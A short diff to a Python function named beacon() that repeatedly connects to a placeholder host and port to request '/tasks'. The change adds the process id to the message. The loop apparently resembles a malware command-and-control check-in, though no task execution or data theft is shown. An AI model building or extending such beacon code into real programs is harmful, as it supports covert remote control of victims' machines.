@@ -5,7 +5,7 @@ def beacon():
     while True:
         try:
             s = socket.create_connection(("$HOST", $PORT))
-            s.sendall(b"GET /tasks HTTP/1.1\r\n\r\n")
+            s.sendall(("HELLO pid=%d GET /tasks HTTP/1.1\r\n\r\n" % os.getpid()).encode())
             time.sleep(0.05)
             s.close()
         except OSError:
